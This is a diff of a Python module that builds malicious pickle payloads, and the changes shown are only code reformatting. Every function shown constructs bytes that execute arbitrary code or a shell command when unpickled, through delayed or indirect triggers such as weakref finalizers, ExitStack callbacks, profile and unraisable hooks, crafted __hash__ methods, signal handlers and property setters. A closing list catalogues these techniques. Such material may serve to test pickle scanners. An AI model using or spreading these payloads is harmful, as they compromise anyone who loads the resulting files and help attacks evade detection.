@@ -12,14 +12,14 @@ def _atexit(place: Place) -> bytes:
 
 
 def _finalize(place: Place) -> bytes:
-    return pickled(call(name("weakref", "finalize"), call(name("collections", "OrderedDict")), EXEC, place.code, {}))
+    return pickled(
+        call(name("weakref", "finalize"), call(name("collections", "OrderedDict")), EXEC, place.code, {})
+    )
 
 
 def _exit_stack(place: Place) -> bytes:
     stack = Op(call(name("contextlib", "ExitStack")) + b"q\x00")
-    return pickled(
-        method(stack, "callback", EXEC, place.code, {}) + b"0" + method(Op(b"h\x00"), "close")
-    )
+    return pickled(method(stack, "callback", EXEC, place.code, {}) + b"0" + method(Op(b"h\x00"), "close"))
 
 
 def _thread(place: Place) -> bytes:
@@ -45,14 +45,18 @@ def _audit_hook(place: Place) -> bytes:
 
 def _profile(place: Place) -> bytes:
     return pickled(
-        call(name("sys", "setprofile"), any_arguments(place)) + b"0" + call(name("textwrap", "dedent"), "x")
-        + b"0" + call(name("sys", "setprofile"), None)
+        call(name("sys", "setprofile"), any_arguments(place))
+        + b"0"
+        + call(name("textwrap", "dedent"), "x")
+        + b"0"
+        + call(name("sys", "setprofile"), None)
     )
 
 
 def _displayhook(place: Place) -> bytes:
     return pickled(
-        call(name("builtins", "setattr"), name("logging", "sys"), "unraisablehook", SYSTEM) + b"0"
+        call(name("builtins", "setattr"), name("logging", "sys"), "unraisablehook", SYSTEM)
+        + b"0"
         + call(name("sys", "unraisablehook"), place.command)
     )
 
@@ -66,7 +70,9 @@ def _del(place: Place) -> bytes:
 
 def _hash(place: Place) -> bytes:
     """Run when the object becomes a key of a dictionary."""
-    made = call(name("builtins", "type"), "X", (), {"__hash__": call(name("functools", "partial"), EXEC, place.code)})
+    made = call(
+        name("builtins", "type"), "X", (), {"__hash__": call(name("functools", "partial"), EXEC, place.code)}
+    )
     return pickled(b"}" + call(made) + value(1) + b"s")
 
 
@@ -80,14 +86,18 @@ def _iteration(place: Place) -> bytes:
 def _signal(place: Place) -> bytes:
 
     return pickled(
-        call(name("signal", "signal"), 10, any_arguments(place)) + b"0" + call(name("signal", "raise_signal"), 10)
+        call(name("signal", "signal"), 10, any_arguments(place))
+        + b"0"
+        + call(name("signal", "raise_signal"), 10)
     )
 
 
 def _reader_of_a_shelf(place: Place) -> bytes:
     """Set an attribute that is a property with a setter."""
     made = call(
-        name("builtins", "type"), "X", (),
+        name("builtins", "type"),
+        "X",
+        (),
         {"x": call(name("builtins", "property"), None, any_arguments(place))},
     )
     return pickled(build(call(made), (None, {"x": 1})))
@@ -108,4 +118,4 @@ TECHNIQUES = [
     Technique("iterator of a class", "delayed", "when a list is made", _iteration),
     Technique("signal handler", "delayed", "when the signal comes", _signal),
     Technique("property", "delayed", "when BUILD sets it", _reader_of_a_shelf),
-]  # fmt: skip
+]
